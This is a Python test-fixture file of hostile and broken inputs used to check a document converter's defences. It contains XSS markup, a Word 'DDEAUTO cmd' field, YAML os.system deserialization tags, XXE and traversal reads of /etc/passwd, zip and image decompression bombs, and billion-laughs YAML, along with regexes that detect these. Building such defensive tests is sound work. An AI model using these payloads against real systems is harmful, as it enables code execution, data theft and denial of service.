"""Sources that are broken or mean harm, and what must come of each: a book, or a message with one of these codes.

Each case writes its files into a folder; the first of them, or `collection.yaml`, is what is built. At ADDRESS somebody
listens who must never be asked for anything; SECRET must not be found in any output, SCRIPT not where it would be run.
"""

import base64
import io
import re
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from readers.test_epub import CONTAINER, book, package, zipped
from readers.word import p, word_file

LISTENER = socket.create_server(("127.0.0.1", 0))
LISTENER.setblocking(False)
ADDRESS = f"http://127.0.0.1:{LISTENER.getsockname()[1]}/asked-for"
SECRET = "暗号：九天揽月"
SCRIPT = "alert('夜半钟声')"

_STOLEN = re.compile(f"{SECRET}|root:x:0".encode())
_RUN_OR_FETCHED = re.compile(
    rb"<(?:script|iframe|object|embed|form|input|video|audio|foreignObject|base)\b|\son[a-z]+\s*=|vbaProject|instrText[^<]*DDE"
    rb"|(?:href|Target|src|data|action)\s*=\s*[\"'](?:javascript|vbscript|data:text|file):"
    rb"|(?:src|srcset|xlink:href)\s*=\s*[\"']https?:|@import|url\(\s*[\"']?https?:|INCLUDE(?:TEXT|PICTURE)",
    re.IGNORECASE,
)
_PDF_ACTION = re.compile(
    r"/(?:JavaScript|JS|Launch|GoToR|SubmitForm|ImportData|RichMedia|EmbeddedFile)\b|javascript:|file:"
)

Files = dict[str, bytes]


def callers() -> int:
    """How many have called at ADDRESS since this was asked last."""
    count = 0
    while True:
        try:
            LISTENER.accept()[0].close()
        except BlockingIOError:
            return count
        count += 1


def wrongs(output: Path) -> list[str]:
    """What an output holds that would be run or fetched, or that it should not know."""
    if output.suffix == ".pdf":
        return _wrongs_of_pdf(output)
    if output.suffix == ".html":
        return [match.decode("utf-8", "replace") for match in _found(output.name, output.read_bytes())]
    with zipfile.ZipFile(output) as archive:
        parts = [(name, archive.read(name)) for name in archive.namelist()]
    outside = [name for name, _ in parts if name.startswith("/") or ".." in name.split("/")]
    found = [match for name, data in parts for match in _found(name, data)]
    return [*outside, *(match.decode("utf-8", "replace") for match in found)]


def _found(name: str, data: bytes) -> list[bytes]:
    markup = name.endswith((".xhtml", ".xml", ".rels", ".opf", ".ncx", ".svg", ".css", ".html"))
    return [*_STOLEN.findall(data), *(_RUN_OR_FETCHED.findall(data) if markup else ())]


def _wrongs_of_pdf(output: Path) -> list[str]:
    import pikepdf

    with pikepdf.open(output) as document:
        told = "".join(repr(each) for each in document.objects if not isinstance(each, pikepdf.Stream))
    return _PDF_ACTION.findall(told)


class Case(NamedTuple):
    """What is tried; the files; the codes of which one must be said, none where a book without a word is right."""

    what: str
    files: Callable[[], Files]
    codes: str = ""


# --- packages ------------------------------------------------------------------------------------

TEXT = "关于工作的报告"
_RELS = "word/_rels/document.xml.rels"


def changed(data: bytes, changes: dict[str, bytes | None] | None = None, **more: bytes) -> bytes:
    """A package with other parts; `None` takes one out."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts: dict[str, bytes | None] = {name: archive.read(name) for name in archive.namelist()}
    parts |= changes or {}
    return zipped({name: content for name, content in {**parts, **more}.items() if content is not None})


def related(*each: str, body: str = "") -> bytes:
    """A Word file with these relationships."""
    return changed(word_file(p(TEXT) + body), {_RELS: relations(*each)})


def relations(*each: str) -> bytes:
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return f"{head}{''.join(each)}</Relationships>".encode()


def relation(key: str, kind: str, target: str, mode: str = "Internal") -> str:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="{key}" Type="{office}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def picture(key: str, attribute: str = "embed") -> str:
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    return p(
        f'<w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic xmlns:pic="{drawing}/picture"><pic:blipFill>'
        f'<a:blip r:{attribute}="{key}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
        "</w:r>"
    )


def field(code: str) -> str:
    parts = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
    begin, separate, end = parts
    return p(f"<w:r>{begin}<w:instrText>{code}</w:instrText>{separate}<w:t>图</w:t>{end}</w:r>")


def lying_zip() -> bytes:
    """A part that states ten bytes and unpacks to a hundred megabytes."""
    data = changed(word_file(p(TEXT)), {"word/media/a.png": bytes(100 << 20)})
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return packed.getvalue().replace(struct.pack("<I", 100 << 20), struct.pack("<I", 10))


def overlapping_zip() -> bytes:
    """A thousand names for the same ten megabytes."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/a.xml", bytes(10 << 20))
        one = archive.infolist()[0]
        for number in range(1000):
            twin = zipfile.ZipInfo(f"word/{number}.xml")
            twin.header_offset, twin.CRC, twin.compress_type = one.header_offset, one.CRC, one.compress_type
            twin.compress_size, twin.file_size = one.compress_size, one.file_size
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return target.getvalue()


def wrong_sum() -> bytes:
    data = word_file(p(TEXT))
    at = data.find(b"word/document.xml") + 30
    return data[:at] + bytes((data[at] ^ 255,)) + data[at + 1 :]


def encrypted() -> bytes:
    """Every entry says that it is encrypted (PKWARE's APPNOTE, 4.4.4: the first bit of the flags)."""
    data = word_file(p(TEXT))
    for head in (rb"PK\x01\x02....", rb"PK\x03\x04.."):
        data = re.sub(b"(%b)\x00\x00" % head, lambda found: found[1] + b"\1\0", data, flags=re.DOTALL)
    return data


def open_document(content: str) -> bytes:
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
    )
    body = f"<office:body><office:text><text:p>{TEXT}</text:p>{content}</office:text></office:body>"
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    kind = "application/vnd.oasis.opendocument.text"
    listed = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
    listed += '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    space = 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    manifest = f"<manifest:manifest {space}>{listed}</manifest:manifest>"
    return zipped(
        {
            "mimetype": kind,
            "content.xml": f'{head}<office:document-content {spaces} office:version="1.2">{body}'
            "</office:document-content>",
            "META-INF/manifest.xml": head + manifest,
        }
    )


# --- images --------------------------------------------------------------------------------------


def png(width: int, height: int, *more: tuple[bytes, bytes]) -> bytes:
    """An image that states its size and has next to no pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = ((b"IHDR", head), *more, (b"IDAT", zlib.compress(bytes(1 << 10))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def black(side: int) -> bytes:
    """A real image of nothing but black: small as a file, large as pixels."""
    target = io.BytesIO()
    from PIL import Image

    Image.new("1", (side, side)).save(target, "PNG")
    return target.getvalue()


def endless_tiff() -> bytes:
    """A directory that names itself as the next."""
    return b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 1) + struct.pack("<I", 8)


def image(name: str, data: bytes) -> Callable[[], Files]:
    return lambda: {"a.md": f"# {TEXT}\n\n![图]({name})\n".encode(), name: data}


# --- the cases -----------------------------------------------------------------------------------


def text(name: str, content: str | bytes) -> Callable[[], Files]:
    return lambda: {name: content.encode() if isinstance(content, str) else content}


def manifest(content: str) -> Callable[[], Files]:
    return lambda: {"collection.yaml": content.encode(), "a.txt": TEXT.encode()}


PAGE = f"""<html><head><base href="{ADDRESS}/"><meta http-equiv=refresh content="0;url={ADDRESS}">
<script>{SCRIPT}</script><script src="{ADDRESS}.js"></script><link rel=stylesheet href="{ADDRESS}.css">
<style>@import url({ADDRESS}.css); p {{background: url({ADDRESS}.png)}}</style></head>
<body onload="{SCRIPT}"><h1>{TEXT}</h1>
<p onclick="{SCRIPT}">正文<a href="javascript:{SCRIPT}">开会</a><a href="data:text/html,{SCRIPT}">附件</a>
<img src="{ADDRESS}.png" srcset="{ADDRESS}2.png 2x"></p>
<iframe src="{ADDRESS}"></iframe><object data="{ADDRESS}"></object><embed src="{ADDRESS}">
<video src="{ADDRESS}"></video>
<svg onload="{SCRIPT}"><image href="{ADDRESS}.png"/><script>{SCRIPT}</script></svg>
<form action="{ADDRESS}"><input></form>
<math><annotation-xml encoding="text/html"><script>{SCRIPT}</script></annotation-xml></math></body></html>"""

MARKDOWN = f"""# {TEXT}

正文<script>{SCRIPT}</script>，[开会](javascript:{SCRIPT})，[附件](data:text/html,{SCRIPT})，![图]({ADDRESS}.png)。

<iframe src="{ADDRESS}"></iframe>

<img src="{ADDRESS}.png" onload="{SCRIPT}">

[j]: javascript:{SCRIPT}

[再开][j]，<javascript:{SCRIPT}>
"""

SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}">
<script>{SCRIPT}</script><image href="{ADDRESS}.png"/></svg>"""
LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 10)}]\n" for n in range(9)
)

CASES: dict[str, Case] = {
    # Word
    "docx-not-a-zip": Case("noise under the suffix .docx", text("a.docx", b"\x07" * 5000), "R002"),
    "docx-cut-off": Case("a Word file cut in the middle", lambda: {"a.docx": word_file(p(TEXT))[:600]}, "R002"),
    "docx-wrong-sum": Case("a part with a wrong checksum", lambda: {"a.docx": wrong_sum()}, "R002"),
    "docx-encrypted": Case("parts that claim to be encrypted", lambda: {"a.docx": encrypted()}, "R002"),
    "docx-lying-sizes": Case("a part larger than it states", lambda: {"a.docx": lying_zip()}, ""),
    "docx-overlapping": Case(
        "a thousand parts in the same bytes, 10 GB", lambda: {"a.docx": overlapping_zip()}, "R002 R003"
    ),
    "docx-cyclic-parts": Case(
        "relationships in a circle",
        lambda: {
            "a.docx": changed(
                word_file(p(TEXT), header1=p("页眉"), comments=""),
                {
                    "word/_rels/header1.xml.rels": relations(relation("c", "comments", "comments.xml")),
                    "word/_rels/comments.xml.rels": relations(
                        relation("d", "officeDocument", "document.xml"), relation("c", "comments", "comments.xml")
                    ),
                },
            )
        },
    ),
    "docx-missing-part": Case(
        "a relationship to a part that is not there",
        lambda: {"a.docx": related(relation("h", "header", "no.xml"))},
        "R002",
    ),
    "docx-remote-image": Case(
        "a linked picture on the web",
        lambda: {"a.docx": related(relation("i", "image", f"{ADDRESS}.png", "External"), body=picture("i", "link"))},
        "R021",
    ),
    "docx-remote-template": Case(
        "a template on the web",
        lambda: {"a.docx": related(relation("t", "attachedTemplate", f"{ADDRESS}.dotm", "External"))},
        "",
    ),
    "docx-fields": Case(
        "fields that include files and run programs",
        lambda: {
            "a.docx": word_file(
                p(TEXT)
                + field(f'INCLUDEPICTURE "{ADDRESS}.png"')
                + field('INCLUDETEXT "/etc/passwd"')
                + field('DDEAUTO cmd "/c calc"')
            )
        },
        "",
    ),
    "docx-macros": Case(
        "macros and an embedded program",
        lambda: {
            "a.docx": changed(
                word_file(p(TEXT)),
                {"word/vbaProject.bin": SCRIPT.encode(), "word/embeddings/a.exe": b"MZ" + SCRIPT.encode()},
            )
        },
        "",
    ),
    "docx-style-circle": Case(
        "styles based on each other",
        lambda: {
            "a.docx": word_file(
                p(TEXT, '<w:pStyle w:val="a"/>'),
                styles="".join(
                    f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{other}"/></w:style>'
                    for one, other in ("ab", "ba")
                ),
            )
        },
        "",
    ),
    "docx-note-in-itself": Case(
        "a footnote that calls itself",
        lambda: {
            "a.docx": word_file(
                p(f'<w:r><w:t>{TEXT}</w:t><w:footnoteReference w:id="2"/></w:r>'),
                footnotes='<w:footnote w:id="2">'
                + p('<w:r><w:t>注</w:t><w:footnoteReference w:id="2"/></w:r>')
                + "</w:footnote>",
            )
        },
        "",
    ),
    "docx-deep-tables": Case(
        "tables 300 deep",
        lambda: {
            "a.docx": word_file(
                p(TEXT) + "<w:tbl><w:tr><w:tc>" * 300 + p("底") + (p("") + "</w:tc></w:tr></w:tbl>") * 300
            )
        },
        "R002 A002 A001",
    ),
    # e-books
    "epub-scripts": Case("scripts, frames and addresses in an e-book", lambda: {"a.epub": book(PAGE)}, "R021"),
    "epub-entities": Case(
        "entities in the package document",
        lambda: {
            "a.epub": zipped(
                {"META-INF/container.xml": CONTAINER, "b/p.opf": f'<!DOCTYPE x [<!ENTITY e "x">]>{package("0.xhtml")}'}
            )
        },
        "R005",
    ),
    "epub-outside": Case(
        "a spine that leads out of the e-book",
        lambda: {
            "a.epub": zipped(
                {"META-INF/container.xml": CONTAINER, "b/p.opf": package("../../../../etc/passwd", "/etc/passwd")}
            )
        },
        "R051 A005 A006 R002",
    ),
    "epub-svg": Case(
        "an image that is a program", lambda: {"a.epub": book('<p>文<img src="a.svg"/></p>', b__a_dot_svg=SVG)}, "R022"
    ),
    # web pages and Markdown
    "html-everything": Case("scripts, frames, forms and addresses in a web page", text("a.html", PAGE), "R021"),
    "html-entities": Case(
        "a web page with external entities",
        text("a.html", f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>{TEXT}&e;</p>'),
    ),
    "html-data-image": Case(
        "an image in the page with 10 billion pixels",
        lambda: {
            "a.html": f'<h1>{TEXT}</h1><p>文<img src="data:image/png;base64,'.encode()
            + base64.b64encode(png(100_000, 100_000))
            + b'">'
        },
        "R024",
    ),
    "md-everything": Case("scripts and addresses in Markdown", text("a.md", MARKDOWN), "R021"),
    "md-outside": Case(
        "an image beside the folder",
        lambda: {"a.md": f"# {TEXT}\n\n![图](../secret.txt) ![图](/etc/passwd)\n".encode()},
        "R023",
    ),
    "md-front-matter": Case(
        "front matter that runs a program",
        text("a.md", f"---\ntitle: !!python/object/apply:os.system [true]\n---\n# {TEXT}\n"),
        "R030",
    ),
    "md-front-matter-bomb": Case(
        "front matter that grows tenfold ten times", text("a.md", f"---\n{LAUGHS}---\n# {TEXT}\n")
    ),
    # text
    "txt-nul": Case("NUL between all letters", text("a.txt", "\0".join(TEXT))),
    "txt-surrogates": Case(
        "lone surrogates in UTF-16",
        text("a.txt", b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\x00\xd8\x0a\x00"),
        "R012 R014",
    ),
    "txt-bidi": Case(
        "marks that turn the direction of text", text("a.txt", f"{TEXT}\n\n\u202e文件\u2066夹\u202c正文。\n")
    ),
    "txt-wrong-mark": Case(
        "a byte order mark that lies", text("a.txt", b"\xff\xfe" + TEXT.encode("gb18030") + b"\n"), "R012 R014"
    ),
    "txt-no-end": Case("a line of five megabytes", text("a.txt", "一二三四五六七八九，" * 170_000)),
    "txt-empty-lines": Case("a million empty lines", text("a.txt", "\n" * 1_000_000 + TEXT)),
    # images
    "png-huge": Case("an image of 10 billion pixels", image("a.png", png(100_000, 100_000)), "R024"),
    "png-black": Case("a real image of 100 million pixels in 14 kB", lambda: image("a.png", black(10_000))(), "R024"),
    "png-text-bomb": Case(
        "an image with words that unpack to 100 MB",
        lambda: image("a.png", png(10, 10, (b"zTXt", b"k\0\0" + zlib.compress(bytes(100 << 20)))))(),
        "R022",
    ),
    "png-cut-off": Case("an image cut in the middle", lambda: image("a.png", black(100)[:60])(), "R022"),
    "tiff-endless": Case("an image whose directory names itself", image("a.tiff", endless_tiff()), "R022"),
    "svg-as-png": Case("a program under the suffix .png", image("a.png", SVG.encode()), "R022"),
    # through LibreOffice
    "odt-remote": Case(
        "a picture on the web, through LibreOffice",
        lambda: {
            "a.odt": open_document(
                '<text:p><draw:frame svg:width="2cm" svg:height="2cm">'
                f'<draw:image xlink:href="{ADDRESS}.png"/></draw:frame></text:p>'
            )
        },
        "R060 R062 R020 R021 R061",
    ),
    "rtf-remote": Case(
        "fields that fetch, through LibreOffice",
        text(
            "a.rtf",
            "{\\rtf1\\ansi "
            + f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{ADDRESS}.png"}}{{\\fldrslt x}}}} report\\par}}',
        ),
        "R060 R062 R061",
    ),
    # manifests
    "manifest-traversal": Case(
        "a source outside, no document", manifest("title: 文集\nsources: [../../../etc/passwd]\n"), "M020 M023"
    ),
    "manifest-tags": Case(
        "YAML that runs a program",
        manifest("title: !!python/object/apply:os.system [true]\nsources: a.txt\n"),
        "M012 M015",
    ),
    "manifest-bomb": Case(
        "YAML that grows tenfold ten times", manifest(LAUGHS + "title: *j\nsources: a.txt\n"), "M018"
    ),
    "manifest-deep": Case("YAML nested 20,000 deep", manifest("title: " + "[" * 20_000), "M018 M012"),
    "manifest-large": Case(
        "a manifest of two megabytes", manifest("title: 文集\nsources: a.txt\n#" + "x" * 2_000_000), "M018"
    ),
    "manifest-nul": Case("NUL in a manifest", manifest("title: 文\0集\nsources: a.txt\n"), "M012"),
    "manifest-pattern": Case(
        "an expression of the cleaning that matches everywhere",
        lambda: {
            "collection.yaml": "title: 文集\nsources: a.txt\nclean: {patterns: ['(a|a)*$']}\n".encode(),
            "a.txt": TEXT.encode(),
        },
        "M017",
    ),
    "style-circle": Case(
        "a style that extends itself",
        lambda: {
            "collection.yaml": "title: 文集\nsources: a.txt\nstyle: s.yaml\n".encode(),
            "a.txt": TEXT.encode(),
            "s.yaml": b"extends: s.yaml\n",
        },
        "M120 M121 M122 M110 M117 M119",
    ),
}


def lay_out(case: Case, home: Path) -> None:
    """Write the files of a case, and a manifest that names the first of them unless there is one."""
    files = case.files()
    for name, data in files.items():
        (home / name).write_bytes(data)
    if "collection.yaml" not in files:
        first = next(iter(files))
        (home / "collection.yaml").write_text(f"title: 文集\nsources: ['{first}']\nstyle: book\n", "utf-8")
